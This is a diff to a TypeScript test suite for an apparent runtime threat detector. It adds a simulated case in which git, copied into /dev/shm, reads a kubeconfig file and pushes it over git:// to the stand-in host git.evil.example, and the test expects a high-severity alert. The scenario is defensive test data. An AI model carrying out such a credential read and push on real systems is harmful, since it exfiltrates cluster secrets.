@@ -15,15 +15,17 @@ interface Copied {
   args: string;
   secret: string;
   to: string;
+  port?: number;
 }
 
 function scenarioOf(c: Copied) {
-  return inlineScenario(c.name, { 'api.github.com': '140.82.121.6', 'ghcr.io': '140.82.121.33' }, [
+  const dns = { 'api.github.com': '140.82.121.6', 'ghcr.io': '140.82.121.33', 'git.evil.example': '198.51.100.9' };
+  return inlineScenario(c.name, dns, [
     { at: '1s', exec: { id: 'cp', parent: 'app', binary: '/bin/cp', args: `/usr/local/bin/x ${c.binary}` } },
     { after: '5ms', exit: { proc: 'cp' } },
     { after: '500ms', exec: { id: 'x', parent: 'app', binary: c.binary, args: c.args, uid: 1000 } },
     { after: '3ms', read: { proc: 'x', path: c.secret, bytes: 5400 } },
-    { after: '5ms', upload: { proc: 'x', to: `${c.to}:443`, bytes: '9KiB', over: '400ms' } },
+    { after: '5ms', upload: { proc: 'x', to: `${c.to}:${c.port ?? 443}`, bytes: '9KiB', over: '400ms' } },
     { after: '10ms', exit: { proc: 'x' } },
   ]);
 }
@@ -65,6 +67,23 @@ describe('a forge or registry client copied under another name', () => {
       );
       expect(alerts).toMatchObject([
         { rule: 'sensitive-read-then-push', severity: 'high', tool: 'gh', destination: 'api.github.com' },
+      ]);
+    });
+
+    it(`git copied into /dev/shm pushing over git:// (no helper, no ssh) is high (${form})`, async () => {
+      const alerts = await alertsOf(
+        {
+          name: 'copied-git-daemon',
+          binary: '/dev/shm/x',
+          args: 'push git://git.evil.example/loot.git HEAD:main',
+          secret: '/home/app/.kube/config',
+          to: 'git.evil.example',
+          port: 9418,
+        },
+        form,
+      );
+      expect(alerts).toMatchObject([
+        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'git', destination: 'git.evil.example' },
       ]);
     });
 
